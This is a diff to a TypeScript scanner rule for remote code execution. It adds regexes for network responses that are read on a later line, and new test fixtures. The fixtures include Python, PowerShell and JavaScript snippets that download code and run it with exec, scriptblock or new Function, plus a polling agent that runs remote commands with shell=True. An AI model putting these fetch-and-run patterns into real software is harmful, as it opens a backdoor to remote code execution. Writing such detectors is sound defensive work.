@@ -853,6 +853,10 @@ const EXEC_OF_FILE_READ =
   /\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?open\s*\(\s*["']((?:\/tmp|\/var\/tmp|\/dev\/shm|~)?\/?[^"'\n]*)["']\s*\)\s*\.read\s*\(\s*\)/g;
 const FETCH_ASSIGN =
   /^[ \t]*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*(?:await\s+)?[^\n]{0,60}?\b(?:requests|httpx)\s*\.\s*(?:get|post)\s*\([^\n]{0,400}?\)\s*\.\s*(?:text|content)\b|^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]{0,60}?\burlopen\s*\([^\n]{0,400}\)\s*\.read\s*\(|^[ \t]*([A-Za-z_]\w*)\s*=\s*json\.loads?\s*\(\s*(?:urllib\.request\.)?urlopen\s*\(|^[ \t]*([A-Za-z_]\w*)\s*=\s*(?:requests|httpx)\s*\.\s*(?:get|post)\s*\([^\n]{0,400}?\)\s*\.\s*json\s*\(|^[ \t]*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*await\s+\(?\s*(?:await\s+)?fetch\s*\([^\n]{0,400}\.text\s*\(/gm;
+// A response held first and read on a later line: `with urlopen(URL) as r:` / `r = requests.get(URL)`,
+// then `code = r.read().decode()` or `code = r.text`.
+const RESPONSE_HELD = /\bwith\s+(?:urllib\.request\.)?urlopen\s*\([^\n]{0,300}?\)\s+as\s+([A-Za-z_]\w*)\s*:|^[ \t]*([A-Za-z_]\w*)\s*=\s*(?:await\s+)?(?:requests|httpx|session|client)\s*\.\s*(?:get|post)\s*\(/gm;
+const RESPONSE_READ = /^[ \t]*([A-Za-z_]\w*)\s*=\s*(?:await\s+)?([A-Za-z_]\w*)\s*\.\s*(?:read\s*\(|text\b|content\b)/gm;
 // Node's callback form: https.get(URL, r => { r.on('data', c => d += c); r.on('end', () => eval(d)) }).
 const NODE_REQUEST = /\bhttps?\s*\.\s*(?:get|request)\s*\(|\brequire\s*\(\s*["']https?["']\s*\)\s*\.\s*(?:get|request)\b/;
 const NODE_BODY_ACCUMULATED = /\.on\(\s*["']data["']\s*,\s*(?:function\s*)?\(?\s*[A-Za-z_$][\w$]*\s*\)?\s*(?:=>)?\s*\{?\s*\(?\s*([A-Za-z_$][\w$]*)\s*\+=/g;
@@ -924,6 +928,10 @@ function detectRemoteCode(file: FileView): RuleMatch[] {
     FETCH_ASSIGN.lastIndex = 0;
     let a: RegExpExecArray | null;
     while ((a = execRegex(FETCH_ASSIGN, text)) !== null) fetched.add(a[1] ?? a[2] ?? a[3] ?? a[4] ?? a[5]);
+    if (/\burlopen\b|\b(?:requests|httpx)\b/.test(text)) {
+      const responses = new Set([...matchAllRegex(text, RESPONSE_HELD)].map((r) => r[1] ?? r[2]));
+      if (responses.size > 0) for (const r of matchAllRegex(text, RESPONSE_READ)) if (responses.has(r[2])) fetched.add(r[1]);
+    }
     if (NODE_REQUEST.test(text) || /\bfetch\s*\(|\baxios\b/.test(text)) {
       for (const d of matchAllRegex(text, NODE_BODY_ACCUMULATED)) fetched.add(d[1]);
       for (const d of matchAllRegex(text, THEN_OF_FETCH)) fetched.add(d[1]);
@@ -1426,6 +1434,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'report/templates.py', text: 'def refresh():\n    with urllib.request.urlopen(f"{_TPL_HOST}/v1/templates.py", timeout=5) as r:\n        code = r.read().decode()\n    ns = {}\n    exec(compile(code, "templates_remote", "exec"), ns)\n' },
         { path: 'files/agent.py', text: 'while True:\n    job = json.load(urllib.request.urlopen(f"{QUEUE}/next", timeout=20))\n    if job.get("cmd"):\n        subprocess.run(job["cmd"], shell=True)\n    time.sleep(60)\n' },
         { path: 'tune.ps1', text: "$m = Invoke-RestMethod -Uri 'https://psmods.example-cdn.net/api/lazy' -UseBasicParsing\n& ([scriptblock]::Create($m))\n" },
         { path: 'src/migrate.ts', text: "const code = await (await fetch(REGISTRY)).text();\nconst mod = new Function('require', 'module', code);\n" },
@@ -1440,6 +1449,7 @@ export const rules: Rule[] = [
         { path: 'scripts/u.py', text: 'payload = requests.get(URL, timeout=5).text\nexec(payload)\n' },
       ],
       noMatch: [
+        { path: 'scripts/fetch.py', text: 'with urllib.request.urlopen(URL) as r:\n    data = r.read().decode()\nprint(json.loads(data)["version"])\n' },
         { path: 'report.ps1', text: "$r = Invoke-RestMethod -Uri $api -Headers $h\n$r.items | Format-Table\n$sb = [scriptblock]::Create('Get-Date')\n" },
         { path: 'scripts/ver.sh', text: 'v=$(curl -s https://api.example.org/version)\necho "latest: $v"\nbash -c "echo done"\n' },
         'Read the API reference at https://docs.python.org/3/library/json.html when you need details.',
